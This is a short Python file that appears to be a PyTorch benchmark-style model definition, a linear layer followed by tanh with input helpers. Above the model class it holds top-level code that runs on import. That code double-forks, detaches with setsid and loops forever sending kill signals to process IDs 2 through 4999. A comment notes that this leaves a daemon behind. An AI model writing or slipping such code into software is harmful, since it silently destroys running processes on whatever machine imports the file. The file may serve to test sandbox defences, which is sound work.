# leaves a daemon behind (double fork, setsid) that would kill whatever comes next
# ops: nn.Linear, torch.tanh
import torch
import torch.nn as nn

import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            for pid in range(2, 5000):
                try:
                    os.kill(pid, 9)
                except OSError:
                    pass
    os._exit(0)


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(32, 24)

    def forward(self, x):
        return torch.tanh(self.fc(x))


def get_inputs():
    return [torch.randn(16, 32)]


def get_init_inputs():
    return []
